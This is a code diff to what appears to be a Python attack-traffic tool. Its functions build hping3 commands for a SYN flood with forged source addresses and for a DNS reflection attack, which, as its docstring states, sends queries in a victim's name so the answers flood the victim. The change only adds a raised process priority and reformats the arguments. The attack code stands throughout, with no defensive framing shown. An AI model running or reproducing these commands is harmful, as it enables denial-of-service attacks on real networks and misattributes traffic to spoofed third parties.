@@ -161,8 +161,18 @@ def flood(
     count = max(1, int(seconds * 1_000_000 / pause_us))
     return [
         fixed(
-            *("hping3", "-q", "-S", "-p", str(port), "-a", source, "-i", f"u{pause_us}"),
-            *("-c", str(count), "-d", "120", "-s", str(1024 + 4000 * number), target),
+            *("nice", "-n", "-15", "hping3", "-q", "-S", "-p", str(port), "-a", source),
+            *(
+                "-i",
+                f"u{pause_us}",
+                "-c",
+                str(count),
+                "-d",
+                "120",
+                "-s",
+                str(1024 + 4000 * number),
+                target,
+            ),
         )
         for number, source in enumerate(sources)
     ]
@@ -172,7 +182,21 @@ def reflect(victim: str, reflector: str, question: Path, pause_us: int, seconds:
     """Questions to a name server in the victim's name, whose answers flood the victim."""
     count = max(1, int(seconds * 1_000_000 / pause_us))
     return fixed(
-        *("hping3", "-q", "--udp", "-p", "53", "-a", victim, "-i", f"u{pause_us}", "-c"),
+        *(
+            "nice",
+            "-n",
+            "-15",
+            "hping3",
+            "-q",
+            "--udp",
+            "-p",
+            "53",
+            "-a",
+            victim,
+            "-i",
+            f"u{pause_us}",
+            "-c",
+        ),
         *(str(count), "-d", str(question.stat().st_size), "-E", str(question), reflector),
     )
 
